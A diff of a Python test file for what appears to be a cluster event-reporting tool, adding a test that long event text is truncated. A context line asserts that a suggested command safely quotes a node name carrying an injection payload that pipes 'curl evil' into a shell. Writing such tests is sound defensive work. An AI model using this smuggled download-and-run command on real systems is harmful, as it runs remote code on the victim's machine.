@@ -157,6 +157,12 @@ def test_a_command_to_copy_quotes_the_name_that_a_node_reported() -> None:
     assert "./hpod logs ml 'x`; curl evil | sh #'`" in event.action("ml")
 
 
+def test_a_text_that_is_cut_says_so() -> None:
+    event = Event(NOW, Source.STACK, "UPDATE_FAILED", "starter-Cluster", 40 * "words of a script ")
+    assert event.what.endswith("...")
+    assert len(event.what) < 40 * len("words of a script ")
+
+
 def test_stacks_appear_with_their_own_states_and_the_failures_of_their_resources(account: FakeOperations) -> None:
     def add(resource: str, status: str, minutes: float, reason: str = "") -> None:
         named = {"LogicalResourceId": resource, "ResourceStatus": status, "Timestamp": ago(minutes)}
